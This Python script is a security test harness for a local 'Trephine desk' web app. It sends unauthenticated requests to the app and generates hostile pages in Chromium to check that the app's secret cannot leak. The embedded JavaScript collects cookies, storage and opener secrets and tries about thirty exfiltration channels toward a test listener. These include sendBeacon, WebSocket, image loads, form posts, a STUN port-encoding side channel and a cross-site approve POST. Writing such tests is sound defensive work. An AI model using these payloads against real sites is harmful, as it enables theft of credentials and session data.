#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Strangers against the desk: requests without its secret, or of another origin or host, get nothing of a library and change nothing.

With --pages N also N pages that a stranger made, in chromium, in a case's folder, as a script in the desk's own frame, or beside the
desk: ways out, sources and contexts are drawn by chance. Nothing that arrives holds the secret, and the desk gives them nothing."""
import json
import time

import desk_of_one
from desk_of_one import exchange

PUBLIC = (b"Trephine desk</title>", b"image/png")  # the page without a library, and its icon
KNOWS = ["location.href", "document.referrer", "window.name", "document.cookie", "top.location.href", "history.state",
         "parent.document.documentElement.outerHTML", "opener.location.href", "sessionStorage.getItem('trephine-desk')",
         "localStorage.getItem('trephine-desk')", "location.ancestorOrigins[0]", "parent.secret", "opener.secret", "opener.desk.secret",
         "performance.getEntries().map(e => e.name)", "navigation.entries().map(e => e.url)"]
WAYS = ["fetch(u, { mode: 'no-cors', keepalive: true })", "new XMLHttpRequest().open('POST', u)", "navigator.sendBeacon(u, q)",
        "new WebSocket(u.replace('http', 'ws'))", "new EventSource(u)", "new Image().src = u", "import(u)", "window.open(u)",
        "add('script', { src: u })", "add('link', { rel: 'stylesheet', href: u })", "add('iframe', { src: u })",
        "add('link', { rel: 'prefetch', href: u })", "add('link', { rel: 'dns-prefetch', href: u })", "add('object', { data: u })",
        "add('video', { src: u })", "add('style', { textContent: `@import url(${u}); body { background: url(${u}) }` })",
        "new Worker(URL.createObjectURL(new Blob([`fetch('${u}')`])))", "add('a', { href: u, target: '_blank', ping: u }).click()",
        "top.location = u", "parent.location = u", "location = u", "add('meta', { httpEquiv: 'refresh', content: '0;url=' + u })",
        "add('form', { action: u, method: 'post' }).submit()", "parent.postMessage({ secret: q, go: u }, '*')", "stun()",
        "take('api/library')", "take('api/status', { credentials: 'include' })",
        "take('api/library', { headers: { 'Trephine-Desk': secret() || 'x' } })",
        "take('api/approve', { method: 'POST', mode: 'no-cors', body: '{\"case\":\"marked\",\"by\":\"evil\"}' })"]
SCRIPT = """
window.got = window.got || []
const known = f => { try { return String(f() || '') } catch (e) { return '' } }
const q = encodeURIComponent(KNOWS.map(known).join(' ')), u = OUT + 'x?' + q
const secret = () => (decodeURIComponent(q).match(/[0-9a-f]{32}/) || [''])[0]
const add = (tag, more) => { const e = Object.assign(document.createElement(tag), more); document.documentElement.append(e); return e }
const take = async (path, how) => {
  try { const r = await fetch(DESK + path, how); got.push(path + ' ' + r.status + ' ' + await r.text()) } catch (e) {} }
const stun = () => { for (let i = 0; secret() && i < PORTS.length; ++i) {
  const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + PORTS[i][parseInt(secret()[i], 16)] }] })
  c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) } }
for (const way of TRIED) setTimeout(() => { try { way() } catch (e) {} }, DELAY)
"""


def hostile_script(rnd, out, desk):
    """Ways out in any order and number, straight or in a document that has no address of its own; and what it is."""
    tried = rnd.sample(WAYS, rnd.randrange(1, len(WAYS)))
    names = {"OUT": out.url, "PORTS": out.ports(), "DESK": f"http://127.0.0.1:{desk.port}/", "DELAY": rnd.choice([0, 0, 300])}
    text = "const " + ", ".join(f"{k} = {json.dumps(v)}" for k, v in names.items()) + ";\n"
    for name, list_of in (("KNOWS", KNOWS), ("TRIED", tried)):  # functions, for a policy may forbid eval
        text += f"const {name} = [" + ", ".join("() => " + ("{ %s }" % f if name == "TRIED" else f) for f in list_of) + "]\n"
    text += SCRIPT
    page = json.dumps("<script>" + text + "</script>").replace("</", "<\\/")
    context = rnd.choice(["straight", "straight", "srcdoc", "blob", "data", "window"])
    frame = "document.documentElement.append(Object.assign(document.createElement('iframe'), { %s }))"
    text = {"srcdoc": frame % f"srcdoc: {page}", "blob": frame % f"src: URL.createObjectURL(new Blob([{page}], {{ type: 'text/html' }}))",
            "data": frame % f"src: 'data:text/html,' + encodeURIComponent({page})",
            "window": f"{{ const w = window.open('about:blank'); w.document.write({page}) }}"}.get(context, text)
    return text.replace("</", "<\\/"), f"{context}, {len(tried)} ways"


class Pages:
    """One desk and one browser for all pages."""

    def __init__(self, attack, desk, browser, library, out):
        from desk import Page
        from webdriver import Checks
        self.attack, self.desk, self.browser, self.out, self.page = attack, desk, browser, out, Page(browser, Checks())
        self.case, self.first = library / "marked", browser.call("/window/handles")[0]

    def show(self, where, script):
        b, view = self.browser, self.case / "report/view.html"
        view.write_text(f"<!DOCTYPE html><title>STRANGER</title><body><script>{script}</script></body>")
        b.open("about:blank")
        b.open(self.desk.url)
        self.page.until("document.documentElement.dataset.ready === 'library' && desk.cases.length === 2", "the library")
        if where == "a page beside the desk":
            framed = self.attack.random.choice(["", f"<iframe src='http://127.0.0.1:{self.desk.port}/'></iframe>"])
            self.out.pages["/evil"] = view.read_text() + framed
            b.js("window.open(arguments[0])", self.out.url + "evil")
            return
        b.js("location.hash = 'case/marked'")
        self.page.until("!!document.querySelector('iframe')", "the frame")
        if where == "a script in the frame":
            time.sleep(1)
            b.call("/frame", {"id": b.call("/element", {"using": "css selector", "value": "iframe"})})
            try:
                b.js(script)
            except RuntimeError:
                pass  # its policy refuses it
            b.call("/frame", {"id": None})

    def judge(self, what, where):
        from desk_stranger import DIGITS
        told, token = self.out.secret(), self.desk.token
        if told == token[:DIGITS] or any(token[i:i + 12] in c for c in self.out.came for i in range(0, 20, 4)):
            self.attack.find(f"{what}: the secret went out: {told} {[c[:200] for c in self.out.came]}")
        if where != "a page beside the desk" and self.out.came:
            self.attack.find(f"{what}: something went out: {self.out.came[0][:300]}")
        for handle in self.browser.call("/window/handles"):
            self.browser.call("/window", {"handle": handle})
            got = self.browser.js("return window.got ? window.got.join('; ') : ''") or ""
            if " 200 " in got:
                self.attack.find(f"{what}: the desk gave it {got[:300]}")
            if handle != self.first:
                self.browser.call("/window", method="DELETE")
        self.browser.call("/window", {"handle": self.first})
        approval = self.case / "approved.json"
        if approval.exists():
            self.attack.find(what + ": it approved a case")
            approval.unlink()


def show_pages(attack):
    from desk import Desk
    from desk_stranger import Listeners
    from page import make_pages
    from webdriver import Browser
    library, out = attack.work / "pages", Listeners()
    library.mkdir()
    make_pages(library)
    with Desk(None, library) as desk, Browser() as browser:
        pages = Pages(attack, desk, browser, library, out)
        for n in range(attack.args.pages):
            out.secret()
            out.came.clear()
            out.digits.clear()
            where = attack.random.choice(["the case's own page", "a script in the frame", "a page beside the desk"])
            script, how = hostile_script(attack.random, out, desk)
            pages.show(where, script)
            time.sleep(3)  # for whatever is on its way
            pages.judge(f"page {n}: {where}: {how}", where)
    attack.outcomes["pages"] = attack.args.pages


def send_requests(attack):
    from desk import Desk
    from desk_requests import Generator
    root, library = desk_of_one.library_of_one(attack)
    with Desk(root, library) as desk:
        generator, sent = Generator(desk, attack.args.seed), 0
        if not desk.get("api/library").startswith(b"HTTP/1.1 200"):
            attack.find("the owner is not answered")
        before = desk_of_one.state_of(root)
        while sent < attack.args.count:
            data, honest, whole = generator.request()
            if honest:
                continue
            sent += 1
            second = attack.random.random() < 0.1  # the port of the case pages
            got = exchange(desk.port + second, [data], 0.5 if whole else 0.1)
            if desk_of_one.status_of(attack, got) == "200" and not any(p in got for p in PUBLIC):
                attack.find(f"a stranger is answered: {data[:300]}")
            if desk.token.encode() in got or desk_of_one.CASE.encode() in got.partition(b"\r\n\r\n")[2]:
                attack.find(f"a stranger learns something: {data[:300]}")
            if desk.process.poll() is not None:
                attack.find(f"ended the desk: {data[:300]}")
                attack.end()
        after = desk_of_one.state_of(root)
        if after != before:
            attack.find("strangers changed " + str(set(after.items()) ^ set(before.items()))[:300])


def main():
    more = {"--pages": {"type": int, "default": 0, "help": "how many pages of a stranger are shown in chromium"}}
    attack = desk_of_one.attack_of_desk(__doc__, 1000, more)
    send_requests(attack)
    if attack.args.pages:
        show_pages(attack)
    attack.end()


if __name__ == "__main__":
    main()
